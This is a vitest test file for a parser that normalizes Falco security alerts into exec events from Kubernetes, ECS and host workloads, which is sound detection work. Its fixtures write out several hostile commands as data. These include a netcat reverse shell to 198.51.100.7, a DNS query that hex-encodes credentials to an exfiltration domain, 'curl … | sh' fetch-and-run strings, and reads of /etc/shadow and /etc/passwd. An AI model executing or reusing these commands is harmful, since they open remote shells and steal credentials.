import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../src/model.js";
import { falco, splitFalcoArgs } from "../../src/sources/falco.js";
import { context, itNormalizesFixtures, K8S_GROUP, loadFixture, loadMessage } from "./fixtures.js";

const ctx = context({ logGroup: K8S_GROUP, logStream: "falco-7x2kq" });
const source = {
  format: "falco",
  logGroup: K8S_GROUP,
  logStream: "falco-7x2kq",
  eventId: ctx.eventId,
  owner: "123456789012",
} as const;

const expected: Record<string, ExecEvent[]> = {
  "falco-nc-reverse-shell": [
    {
      process: {
        name: "nc.traditional",
        path: "/usr/bin/nc.traditional",
        args: ["198.51.100.7", "4444", "-e", "/bin/sh"],
        pid: 30311,
        user: "www-data",
        // Debian's alternatives: /bin/nc -> /etc/alternatives/nc -> nc.traditional; the kernel calls it nc.
        comm: "nc",
      },
      ancestors: [
        { name: "dash", path: "/usr/bin/dash", args: ["-c", "nc 198.51.100.7 4444 -e /bin/sh"] },
        { name: "php-fpm8.3" },
        { name: "php-fpm8.3" },
        { name: "containerd-shim" },
      ],
      container: {
        id: "0be477336d3e",
        name: "storefront",
        image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/storefront:4.2.0",
      },
      workload: {
        platform: "kubernetes",
        namespace: "shop",
        pod: "storefront-6d9f8b7c5-2xkzw",
        node: "ip-10-0-47-181.ec2.internal",
      },
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-16T03:12:45.118Z",
      source,
    },
  ],
  "falco-dig-exfil-ecs": [
    {
      process: {
        name: "dig",
        path: "/usr/bin/dig",
        args: ["+short", "6c6f67696e3a61646d696e3b70617373776f72643a68756e74657232.q.exfil-cdn.net", "TXT"],
        pid: 7718,
        user: "app",
      },
      ancestors: [
        {
          name: "python3.12",
          path: "/usr/local/bin/python3.12",
          args: ["/opt/worker/run.py", "--queue", "reports"],
        },
        { name: "tini" },
        { name: "containerd-shim" },
      ],
      container: {
        id: "5dfb031145db",
        name: "ecs-report-worker-7-worker-9ec4a1f2b8d3c6e5a701",
        image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/report-worker:1.9.3",
      },
      workload: {
        platform: "ecs",
        cluster: "prod-workers",
        task: "arn:aws:ecs:us-east-1:123456789012:task/prod-workers/5dfb031145db4ed6846234a3febc10b4",
        node: "ip-10-0-88-19.ec2.internal",
        labels: {
          "com.amazonaws.ecs.cluster": "arn:aws:ecs:us-east-1:123456789012:cluster/prod-workers",
          "com.amazonaws.ecs.task-arn":
            "arn:aws:ecs:us-east-1:123456789012:task/prod-workers/5dfb031145db4ed6846234a3febc10b4",
        },
      },
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-17T14:03:22.700Z",
      source,
    },
  ],
  "falco-host-curl": [
    {
      process: {
        name: "curl",
        path: "/usr/bin/curl",
        args: ["-sO", "https://downloads.example.com/tools/node-exporter.tar.gz"],
        user: "ssm-user",
      },
      ancestors: [
        { name: "bash", path: "/usr/bin/bash", args: [] },
        { name: "sh" },
        { name: "ssm-session-wor" },
      ],
      container: {},
      workload: { platform: "unknown", node: "ip-10-0-12-34.ec2.internal" },
      inContainer: false,
      viaExecSession: false,
      time: "2026-03-14T11:45:09.330Z",
      source,
    },
  ],
  "falco-k8saudit-plugin": [
    {
      process: { name: "sh", args: [] },
      ancestors: [],
      container: {},
      workload: { platform: "kubernetes", namespace: "shop", pod: "storefront-6d9f8b7c5-2xkzw" },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-16T03:11:58.000Z",
      source,
      actor: { user: "arn:aws:iam::123456789012:user/dev-mallory" },
    },
  ],
};

describe("falco parser", () => {
  itNormalizesFixtures(falco, ctx, expected);

  it("reads a non-utility shell alert as an ordinary exec event", () => {
    const [event] = falco.parse(loadMessage("falco-shell-in-container"), ctx) ?? [];
    expect(event?.process).toEqual({ name: "bash", path: "/usr/bin/bash", args: [], user: "root" });
    expect(event?.ancestors).toEqual([{ name: "runc" }]);
  });

  it("names a busybox applet by its applet name and keeps the busybox path", () => {
    const [event] = falco.parse(loadMessage("falco-file-open-busybox"), ctx) ?? [];
    expect(event?.process).toEqual({
      name: "cat",
      path: "/bin/busybox",
      args: ["/etc/shadow"],
      user: "root",
    });
    // proc.aname[4] is null: the tree ends there, no empty trailing ancestor.
    expect(event?.ancestors).toEqual([{ name: "sh" }, { name: "sh" }, { name: "containerd-shim" }]);
  });

  it("takes the EKS cluster name from an EKS log group", () => {
    const result = falco.parse(
      loadMessage("falco-nc-reverse-shell"),
      context({ logGroup: "/aws/eks/prod-eks/cluster" }),
    );
    expect(result?.[0]?.workload).toMatchObject({ platform: "eks", cluster: "prod-eks" });
  });

  it("says unknown when the rule's output has no container.id", () => {
    // Prepare
    const fixture = loadFixture("falco-host-curl");
    const fields = fixture.output_fields as Record<string, unknown>;
    delete fields["container.id"];
    delete fields["container.name"];
    fixture.output = "11:45:09.330000000: Notice Network tool launched (user=ssm-user command=curl -sO x)";

    // Act
    const [event] = falco.parse(JSON.stringify(fixture), ctx) ?? [];

    // Assess
    expect(event?.inContainer).toBe("unknown");
    expect(event?.workload.platform).toBe("unknown");
  });

  it("prefers proc.args and takes the time from evt.time when `time` is absent", () => {
    const fixture = loadFixture("falco-nc-reverse-shell");
    const fields = fixture.output_fields as Record<string, unknown>;
    fields["proc.args"] = "-lvnp 4444";
    delete fixture.time;
    const [event] = falco.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(event?.process.args).toEqual(["-lvnp", "4444"]);
    expect(event?.time).toBe("2026-03-16T03:12:45.118Z");
  });

  it("fills ancestor levels missing between known ones with {} so positions hold", () => {
    const fixture = loadFixture("falco-shell-in-container");
    const fields = fixture.output_fields as Record<string, unknown>;
    delete fields["proc.pname"];
    fields["proc.aname[3]"] = "containerd-shim";
    fixture.output = "02:58:10.004411829: Notice A shell was spawned in a container (command=bash)";
    const [event] = falco.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(event?.ancestors).toEqual([{}, {}, { name: "containerd-shim" }]);
  });

  it.each([
    ["-c nc 198.51.100.7 4444 -e /bin/sh", "sh", ["-c", "nc 198.51.100.7 4444 -e /bin/sh"]],
    ["-lc curl -s http://x | sh", "bash", ["-lc", "curl -s http://x | sh"]],
    // Every shell the shell reader knows, not a shorter list of its own.
    ["-c curl -s http://x | sh", "yash", ["-c", "curl -s http://x | sh"]],
    ["-c curl -s http://x | sh", "fish", ["-c", "curl -s http://x | sh"]],
    ["-c", "sh", ["-c"]],
    ['-d {"a": 1} http://x', "curl", ["-d", '{"a":', "1}", "http://x"]],
    ["-c print('hi there')", "python3", ["-c", "print('hi", "there')"]],
    ["  spaced   words ", "echo", ["spaced", "words"]],
  ])("splits Falco args %j of %s", (args, name, words) => {
    expect(splitFalcoArgs(args, name)).toEqual(words);
  });

  it.each([
    ["plain text", "Falco initialized with configuration file: /etc/falco/falco.yaml"],
    ["broken JSON", '{"output_fields": {"proc.name": "curl"'],
    ["output_fields not an object", '{"rule": "x", "output_fields": "proc.name=curl"}'],
    ["neither rule nor output", '{"output_fields": {"proc.name": "curl"}}'],
  ])("returns null for %s", (_label, message) => {
    expect(falco.parse(message, ctx)).toBeNull();
  });
});

describe("falco in-container evidence", () => {
  const alert = (fields: Record<string, unknown>) =>
    JSON.stringify({ rule: "r", priority: "Notice", time: "2026-11-28T10:00:00Z", output_fields: fields });

  it.each([
    ["an image", { "container.image.repository": "nginx" }, true],
    ["a container name", { "container.name": "web" }, true],
    ["container.id host", { "container.id": "host", "container.name": "host" }, false],
    ["no container field at all", {}, "unknown"],
  ] as const)("%s", (_name, extra, inContainer) => {
    const events = falco.parse(
      alert({ "proc.name": "curl", "proc.cmdline": "curl -T /etc/passwd x", ...extra }),
      ctx,
    );
    expect(events?.[0]?.inContainer).toBe(inContainer);
  });
});
